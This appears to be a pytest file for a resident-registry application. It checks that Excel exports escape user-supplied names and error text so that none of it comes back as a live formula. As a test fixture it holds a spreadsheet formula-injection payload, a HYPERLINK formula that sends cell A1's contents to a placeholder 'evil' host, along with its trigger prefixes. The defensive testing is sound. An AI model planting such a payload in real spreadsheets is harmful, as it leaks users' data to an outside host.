"""The registry's workbooks carry user-supplied text (names, error messages that echo a
sheet's cells) and must never hand it back as a live formula."""

from __future__ import annotations

import io

import openpyxl
import pytest
from sqlalchemy.orm import Session

from fengchao.registry import exports
from fengchao.registry.importer import RowError
from fengchao.registry.imports import ImportReport
from fengchao.registry.models import Person
from tests.conftest import Grid, Persona

EVIL = 'HYPERLINK("http://evil/?"&A1,"click")'
TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def shown(text: str) -> str:
    """How openpyxl reads a cell's text back: a carriage return is kept in Excel's escape
    (_x000D_), which Excel shows as the character itself."""
    return text.replace("\r", "_x000D_")


def cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_completeness_workbook_has_no_formula(  # type: ignore[no-untyped-def]
    login_as, session: Session, grid: Grid, worker: Persona
) -> None:
    names = [lead + EVIL for lead in TRIGGERS]
    for name in names:  # no phone: each is listed among the items to fix
        session.add(Person(community_id=grid.community.id, household_id=grid.h5_101.id, name=name))
    session.flush()
    export = login_as(worker).get("/registry/completeness.xlsx")
    assert export.status_code == 200
    written = cells(export.content)
    assert all(cell.data_type != "f" for cell in written)
    texts = {cell.value for cell in written}
    for name in names:
        assert shown("'" + name) in texts, name
        assert shown(name) not in texts


@pytest.mark.parametrize("lead", TRIGGERS)
def test_error_report_has_no_formula(lead: str) -> None:
    # The error file gives the sheet's own cells back, the name among them.
    report = ImportReport(
        kind="residents",
        header=["姓名", "手机"],
        columns={"name": 0, "phone": 1},
        errors=[
            RowError(2, "phone", "手机号应为11位", lead + EVIL),
            RowError(1, "address", lead + EVIL),  # a problem of the header: on its own sheet
        ],
        problem_cells={2: [lead + EVIL, "123"]},
    )
    written = cells(exports.error_report_xlsx(report))
    assert all(cell.data_type != "f" for cell in written)
    texts = {cell.value for cell in written}
    assert shown("'" + lead + EVIL) in texts
    assert shown(lead + EVIL) not in texts


def test_template_still_keeps_id_columns_as_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(exports.resident_template_xlsx()))
    sheet = book["居民信息"]
    assert sheet["A1"].value == "姓名" and sheet["A1"].font.b
    assert sheet["C2"].value == "350102198001011234" and sheet["C2"].number_format == "@"
    # The whole column is text, rows typed in later included.
    assert sheet.column_dimensions["C"].number_format == "@"
    assert sheet.column_dimensions["A"].number_format == "General"
    assert book.sheetnames == ["居民信息", "填写说明"]
